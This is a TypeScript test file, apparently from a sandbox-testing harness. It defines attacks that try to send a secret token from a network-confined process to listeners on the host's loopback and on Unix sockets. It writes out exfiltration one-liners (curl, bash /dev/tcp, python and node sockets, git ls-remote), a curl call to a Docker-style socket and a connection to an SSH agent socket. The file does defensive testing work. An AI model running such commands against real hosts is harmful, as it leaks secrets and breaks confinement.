import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { withoutNetwork } from '../helpers/cases.js';
import { python, receivedFile, startListener, type ListenerKind } from '../helpers/listener.js';
import { eventually, type Outcome } from '../helpers/processes.js';
import { type Scene } from '../helpers/scene.js';
import { defineAttack } from './harness.js';
import { accepted, content, hostCan, need, needsRoot, program, shell } from './support.js';

let address = '';

/** Effect: the server of the host has received the token. It may need a moment for what was really sent. */
function received(scene: Scene, outcome: Outcome): Promise<boolean> {
  const patience = accepted(scene, outcome) ? 1000 : 100;
  return eventually(() => content(receivedFile(scene)).includes(scene.token), patience);
}

const ipv6 = need(
  'ipv6',
  existsSync('/proc/net/if_inet6') && content('/proc/net/if_inet6') !== '',
  'no IPv6 address',
);

/** Attack, and the server that it tries to reach on the host's loopback. */
const overLoopback: readonly (readonly [name: string, kind: ListenerKind])[] = [
  ['tcp', 'tcp'],
  ['tcp6', 'tcp6'],
  ['v4-mapped', 'tcp'],
  ['mptcp', 'mptcp'],
  ['fast-open', 'tcp'],
  ['fast-open-sendmmsg', 'tcp'],
  ['fast-open-connect', 'tcp'],
  ['io-uring', 'tcp'],
  ['udp', 'udp'],
  ['udp-sendmmsg', 'udp'],
  ['udplite', 'udplite'],
  ['dns', 'udp'],
];

for (const [name, kind] of overLoopback) {
  defineAttack({
    name: `network: ${name}`,
    profiles: withoutNetwork,
    ...(kind === 'tcp6' && { needs: [ipv6] }),
    setup: async (scene) => {
      address = await startListener(scene, kind, kind === 'tcp6' ? '::1' : '127.0.0.1');
    },
    command: (scene) => program('net', name, address, scene.token),
    effect: received,
  });
}

/** Programs that people use; `$1` is the port, `$2` the token. */
const clients: Readonly<Record<string, string>> = {
  curl: 'curl -s -m 2 "http://127.0.0.1:$1/$2"',
  'curl with a proxy': 'curl -s -m 2 -x "http://127.0.0.1:$1" "http://example.invalid/$2"',
  'bash /dev/tcp': 'bash -c \'echo "$2" > "/dev/tcp/127.0.0.1/$1"\' bash "$1" "$2"',
  node: `node -e 'require("net").connect(process.argv[1], "127.0.0.1").end(process.argv[2])' "$1" "$2"`,
  python: `${python} -c 'import socket,sys; socket.create_connection(("127.0.0.1", sys.argv[1])).send(sys.argv[2].encode())' "$1" "$2"`,
  git: 'git ls-remote "http://127.0.0.1:$1/$2"',
};

for (const [name, script] of Object.entries(clients)) {
  defineAttack({
    name: `network: ${name} to the host's loopback`,
    profiles: withoutNetwork,
    setup: async (scene) => {
      address = await startListener(scene, 'tcp', '127.0.0.1');
    },
    // The server never answers, so the clients are not waited for.
    command: (scene) =>
      shell(`timeout 2 sh -c '${script.replaceAll("'", `'\\''`)}' sh "$1" "$2"`, address, scene.token),
    effect: received,
  });
}

/** Sockets of the host that no confining profile reaches, whatever its network. */
const unixSockets: readonly (readonly [name: string, kind: ListenerKind, place: 'path' | 'abstract'])[] = [
  ['unix-stream', 'unix-stream', 'path'],
  ['unix-stream', 'unix-stream', 'abstract'],
  ['unix-seqpacket', 'unix-seqpacket', 'path'],
  ['unix-dgram', 'unix-dgram', 'path'],
  ['unix-dgram', 'unix-dgram', 'abstract'],
  ['pair-sendto', 'unix-dgram', 'path'],
  ['pair-sendto', 'unix-dgram', 'abstract'],
  ['pair-connect', 'unix-dgram', 'path'],
  ['descriptor', 'unix-descriptors', 'path'],
];

for (const [name, kind, place] of unixSockets) {
  for (const folder of place === 'path' ? (['outside', 'workspace'] as const) : (['outside'] as const)) {
    defineAttack({
      name: `host socket: ${name}, ${place === 'path' ? `path in ${folder}` : 'abstract'}`,
      setup: async (scene) => {
        address = await startListener(
          scene,
          kind,
          place === 'path' ? join(scene[folder], 'socket') : `@${scene.token}`,
        );
      },
      command: (scene) => program('net', name, address, scene.token),
      effect: received,
    });
  }
}

defineAttack({
  name: 'host socket: curl --unix-socket, as for a container engine',
  setup: async (scene) => {
    address = await startListener(scene, 'unix-stream', join(scene.outside, 'docker.sock'));
  },
  command: (scene) => shell('curl -s -m 1 --unix-socket "$1" "http://localhost/$2"', address, scene.token),
  effect: received,
});

defineAttack({
  name: 'host socket: the agent that SSH_AUTH_SOCK names',
  setup: async (scene) => {
    address = await startListener(scene, 'unix-stream', join(scene.outside, 'agent'));
  },
  command: (scene) =>
    shell(
      `${python} -c 'import socket,sys; s=socket.socket(socket.AF_UNIX); s.connect(sys.argv[1]); s.send(sys.argv[2].encode())' "$1" "$2"`,
      address,
      scene.token,
    ),
  effect: received,
});

for (const [name, reason] of [
  ['netlink', 'the kernel has no netlink'],
  ['packet', 'packet sockets need a capability'],
  ['vsock', 'the kernel has no vsock'],
  ['alg', 'the kernel has no AF_ALG'],
] as const) {
  defineAttack({
    name: `socket family: ${name}`,
    needs: [need(name, hostCan(program('net', name, 'x')), reason)],
    command: () => program('net', name, 'x'),
    effect: accepted,
  });
}

/** Echo requests that the network of this process, the host's, has received. */
function echoRequests(): number {
  const [names, values] = readFileSync('/proc/net/snmp', 'utf8')
    .split('\n')
    .filter((line) => line.startsWith('Icmp:'))
    .map((line) => line.split(' '));
  return Number(values![names!.indexOf('InEchos')]);
}

let echoesBefore = 0;
defineAttack({
  name: 'socket family: raw ICMP to the host',
  needs: [needsRoot],
  setup: () => {
    echoesBefore = echoRequests();
  },
  command: () => program('net', 'icmp', 'x'),
  effect: () => echoRequests() > echoesBefore,
});
